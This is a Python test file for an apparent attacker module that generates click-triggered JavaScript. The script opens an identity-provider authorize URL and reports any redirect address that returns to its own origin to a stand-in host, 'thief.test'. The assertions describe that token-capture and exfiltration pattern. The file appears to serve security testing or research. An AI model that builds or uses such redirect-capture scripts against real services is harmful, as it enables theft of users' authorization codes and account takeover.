import json

from attacker.redirect_handlers.intruder import script

REQUEST = 'https://idp.test/authorize?a="b"&c=d'


def test_it_opens_the_request_when_its_victim_clicks_and_not_before() -> None:
    text = script(REQUEST, "https://www.thief.test/seen?at=")

    before, _, then = text.partition("onclick = () =>")
    assert "open(" not in before
    assert f"window.open({json.dumps(REQUEST)})" in then


def test_it_reports_only_what_has_come_to_its_own_origin() -> None:
    _, guard, report = script(REQUEST, "https://www.thief.test/seen?at=").partition(
        "if (!address.startsWith(location.origin)) return;"
    )

    assert guard
    assert '"https://www.thief.test/seen?at=" + encodeURIComponent(address)' in report
